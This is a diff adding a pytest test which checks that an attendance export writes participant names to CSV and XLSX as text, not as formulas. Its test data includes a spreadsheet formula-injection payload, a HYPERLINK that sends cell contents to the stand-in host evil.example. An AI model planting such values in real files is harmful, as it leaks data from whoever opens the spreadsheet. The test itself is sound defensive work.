@@ -340,3 +340,20 @@ def test_summary_export_csv_and_xlsx(engine, cohort_id):
     assert any(r[0] == "Søren Østergaard" and r[3] == "present" for r in values)
     meetings = [[c.value for c in row] for row in book["Meetings"].iter_rows()]
     assert meetings[1][:6] == ["kickoff", "Kick-off-webinar", 6, 1, 0, 0]
+
+
+def test_exports_write_names_as_text_not_formulas(engine, make_cohort):
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    cohort = make_cohort(engine, people=[
+        ParticipantRow(evil, "evil@x.example", "@SUM(1+1)"),
+        ParticipantRow("Anne", "anne@x.example", "Vejle, Kommune")])
+    with db.transaction(engine) as session:
+        csv_bytes = services.export_attendance_csv(session, cohort.id)
+        xlsx_bytes = services.export_attendance_xlsx(session, cohort.id)
+    text = csv_bytes.decode("utf-8-sig")
+    rows = {r[1]: r for r in csv.reader(io.StringIO(text), delimiter=";")}
+    assert rows["evil@x.example"][0] == "'" + evil and rows["evil@x.example"][2] == "'@SUM(1+1)"
+    assert '"Vejle, Kommune"' in text
+    sheet = load_workbook(io.BytesIO(xlsx_bytes))["Attendance"]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value in (evil, "@SUM(1+1)")]
+    assert len(cells) == 2 and {c.data_type for c in cells} == {"s"}
